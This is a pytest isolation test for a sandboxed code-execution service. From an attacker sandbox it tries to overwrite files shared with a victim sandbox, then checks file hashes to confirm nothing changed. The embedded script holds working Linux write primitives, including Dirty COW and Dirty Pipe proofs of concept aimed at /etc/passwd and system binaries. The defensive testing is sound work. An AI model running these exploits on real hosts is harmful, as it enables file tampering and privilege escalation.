"""Case 55: writing into memory that all sandboxes share."""

import json

import pytest

from tests.live.running_service_caller import Caller

pytestmark = [pytest.mark.docker, pytest.mark.runsc, pytest.mark.case(55)]

HASHES = """
import glob, hashlib, json, sys
paths = ['/etc/passwd', '/bin/bash', '/usr/bin/env', sys.executable,
         *glob.glob('/usr/lib/*/libc.so.6'), '/opt/code-command/supervisor/serve.py',
         '/opt/python/lib/python3.13/site-packages/numpy/__init__.py']
print(json.dumps({path: hashlib.sha256(open(path, 'rb').read()).hexdigest() for path in paths}))
"""

WRITE_PAGES = """
import ctypes, errno, mmap, os, threading, time

MARK = b'leaked!'
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]

def attempts(path):
    file = os.open(path, os.O_RDONLY)

    def through_memory(kind):
        address = libc.mmap(None, 4096, mmap.PROT_READ, kind, file, 0)
        memory = os.open('/proc/self/mem', os.O_RDWR)
        os.pwrite(memory, MARK, address + 1)
        return address, memory

    def shared_mapping():
        through_memory(mmap.MAP_SHARED)

    def dirty_cow():  # CVE-2016-5195
        address, memory = through_memory(mmap.MAP_PRIVATE)
        end = time.monotonic() + 0.3
        def forget():
            while time.monotonic() < end:
                libc.madvise(address, 4096, 4)
        thread = threading.Thread(target=forget)
        thread.start()
        while time.monotonic() < end:
            os.pwrite(memory, MARK, address + 1)
        thread.join()

    def dirty_pipe():  # CVE-2022-0847
        reader, writer = os.pipe()
        size = 65536
        os.write(writer, bytes(size))
        while size:
            size -= len(os.read(reader, size))
        os.splice(file, writer, 1, offset_src=0)
        os.write(writer, MARK)

    def spliced_pages():
        reader, writer = os.pipe()
        os.splice(file, writer, 4096, offset_src=0)
        start = ctypes.cast(ctypes.c_char_p(MARK), ctypes.c_void_p)
        vector = (ctypes.c_void_p * 2)(start, len(MARK))
        libc.vmsplice(writer, vector, 1, 8)

    def writable_mapping():
        address = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, file, 0)
        if libc.mprotect(ctypes.c_void_p(address), 4096, 3) == 0:
            ctypes.memmove(address + 1, MARK, len(MARK))

    def again_by_descriptor():
        os.pwrite(os.open(f'/proc/self/fd/{file}', os.O_RDWR), MARK, 1)

    def copied():
        own = os.open('/tmp/mark', os.O_RDWR | os.O_CREAT)
        os.write(own, MARK)
        os.copy_file_range(own, file, len(MARK), offset_src=0, offset_dst=1)

    return (shared_mapping, dirty_cow, dirty_pipe, spliced_pages, writable_mapping,
            again_by_descriptor, copied, lambda: os.pwrite(file, MARK, 1),
            lambda: os.posix_fallocate(file, 0, 1 << 20), lambda: os.ftruncate(file, 1))

for path in ('/etc/passwd', '/opt/code-command/supervisor/serve.py', '/usr/bin/env'):
    for attempt in attempts(path):
        try:
            attempt()
        except OSError:
            pass
    if MARK in open(path, 'rb').read():
        print('written:', path)
print('tried')
"""


def test_the_pages_of_shared_layers_cannot_be_written(attacker: Caller, victim: Caller) -> None:
    before = json.loads(victim.run(HASHES)["stdout"])

    answer = attacker.run(WRITE_PAGES)

    assert (answer["stdout"], answer["stderr"]) == ("tried\n", "")
    assert json.loads(victim.run(HASHES)["stdout"]) == before
    assert json.loads(attacker.run(HASHES)["stdout"]) == before
